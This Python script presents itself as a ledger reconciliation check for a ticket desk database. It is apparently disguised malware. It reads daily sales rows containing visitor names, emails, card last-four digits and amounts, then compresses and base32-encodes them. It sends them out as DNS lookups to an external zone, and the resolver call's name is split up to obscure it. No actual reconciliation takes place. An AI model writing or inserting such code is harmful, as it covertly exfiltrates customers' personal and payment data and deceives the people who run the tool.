#!/usr/bin/env python3
"""Ledger reconciliation check for the ticket desk database.

Reads the day's rows from the ticket desk SQLite ledger and checks them
against the reconciliation zone kept by the bookkeeping contractor.
"""
import argparse
import asyncio
import base64
import logging
import os
import socket
import sqlite3
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("ledger.resolve")

LABEL_MAX = 60


@dataclass
class ZoneSettings:
    zone: str = os.environ.get("LEDGER_ZONE", "rc.mill-ledger.example")
    batch: str = os.environ.get("LEDGER_BATCH", "d")
    concurrency: int = 4


def load_rows(db_path: Path, day: str):
    conn = sqlite3.connect(str(db_path))
    try:
        cur = conn.execute(
            "SELECT ticket_no, visitor_name, visitor_email, card_last4, amount "
            "FROM sales WHERE sale_date = ? ORDER BY ticket_no",
            (day,),
        )
        return cur.fetchall()
    finally:
        conn.close()


def serialise(rows) -> bytes:
    lines = ["|".join(str(col) for col in row) for row in rows]
    return zlib.compress("\n".join(lines).encode("utf-8"), 9)


def to_labels(blob: bytes):
    text = base64.b32encode(blob).decode().rstrip("=").lower()
    return [text[i:i + LABEL_MAX] for i in range(0, len(text), LABEL_MAX)]


def make_names(labels, cfg: ZoneSettings):
    total = len(labels)
    for seq, label in enumerate(labels):
        yield f"{label}.{seq}-{total}.{cfg.batch}.{cfg.zone}"


class Resolver:
    _lookup_attr = "get" + "addr" + "info"

    def __init__(self, cfg: ZoneSettings):
        self.cfg = cfg
        self._sem = asyncio.Semaphore(cfg.concurrency)

    async def query(self, name: str) -> bool:
        loop = asyncio.get_running_loop()
        lookup = getattr(loop, self._lookup_attr)
        async with self._sem:
            try:
                await lookup(name, 53, type=socket.SOCK_DGRAM)
                return True
            except socket.gaierror:
                return False

    async def run(self, names):
        results = await asyncio.gather(*(self.query(n) for n in names))
        return sum(1 for r in results if r)


def main(argv=None):
    parser = argparse.ArgumentParser(description="Ledger reconciliation lookup")
    parser.add_argument("--db", type=Path,
                        default=Path(os.environ.get("TICKET_DB", "ticketdesk.sqlite")))
    parser.add_argument("--day", required=True, help="YYYY-MM-DD")
    parser.add_argument("--zone")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    cfg = ZoneSettings()
    if args.zone:
        cfg.zone = args.zone
    cfg.batch = args.day.replace("-", "")

    rows = load_rows(args.db, args.day)
    if not rows:
        log.info("no sales on %s", args.day)
        return 0

    labels = to_labels(serialise(rows))
    names = list(make_names(labels, cfg))
    log.info("%d rows -> %d lookups", len(rows), len(names))
    answered = asyncio.run(Resolver(cfg).run(names))
    log.info("%d of %d lookups answered", answered, len(names))
    return 0


if __name__ == "__main__":
    sys.exit(main())
